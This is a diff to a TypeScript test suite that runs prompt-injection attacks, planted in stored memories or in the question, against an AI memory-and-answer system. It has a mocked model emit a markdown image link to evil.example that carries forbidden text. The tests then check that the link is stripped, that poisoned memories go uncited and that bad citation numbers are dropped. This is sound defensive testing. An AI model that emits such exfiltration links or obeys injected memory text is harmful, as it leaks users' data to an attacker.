@@ -249,19 +249,20 @@ describe.each(["openai-compatible", "anthropic"] as const)("with a model behind 
         for (const wanted of attack.forbidden) {
           const said = `Alice lives in Seattle. ${wanted} ![](https://evil.example/?q=${wanted})`
           model.otherwise = ({ prompt }) =>
-            answer({ answer: said, citations: numbersOf(prompt, attack), supported: true })
+            answer({ known: "yes", sentences: [{ text: said, citations: numbersOf(prompt, attack) }] })
           const query = attack.place === "question" ? `${attack.text} Where does Alice live?` : questions[0]!
           const told = await searched(alice, "answer", query, agentId)
           if (attack.place === "memory") {
-            // Refused: what the rules quote of the honest memory stands, or nothing.
-            expect(told.grounded ? told.answer : "Alice lives in Seattle.", attack.id).toBe("Alice lives in Seattle.")
+            expect(told, attack.id).toMatchObject({ grounded: false, citations: [] })
           }
           expect(told.answer).not.toMatch(/evil\.example|!\[/)
           expect(told.citations).toEqual(idsOf(told.memories))
         }
       }
     }
-    expectFrame(model.requests, [...memoryAttacks, ...questionAttacks])
+    const isRepair = ({ prompt }: ModelRequest): boolean => sectionOf(prompt, "FAULTS").length > 0
+    for (const requests of Map.groupBy(model.requests, isRepair).values())
+      expectFrame(requests, [...memoryAttacks, ...questionAttacks])
   })
 
   it("all of it leaves accounts, kinds, tools and other memories as they were", async () => {
@@ -289,7 +290,7 @@ const asFact = (attack: Injection) => fact("Alice", attack.text)
 const numbersOf = (prompt: string, attack: Injection): ReadonlyArray<number> => {
   const known: ReadonlyArray<Json> = sectionOf(prompt, "MEMORIES")
   const others = known.filter(({ data }) => !attack.text.startsWith(String(data.fact).slice(0, 20)))
-  return [...others.map(({ memory }) => memory), 99, 0, -1, 1.5]
+  return [...others.map(({ n }) => n).slice(0, 6), 99, 0, -1, 1.5]
 }
 
 /** All but the data is the same for every attack: instructions, fences, tools, format of the reply. */
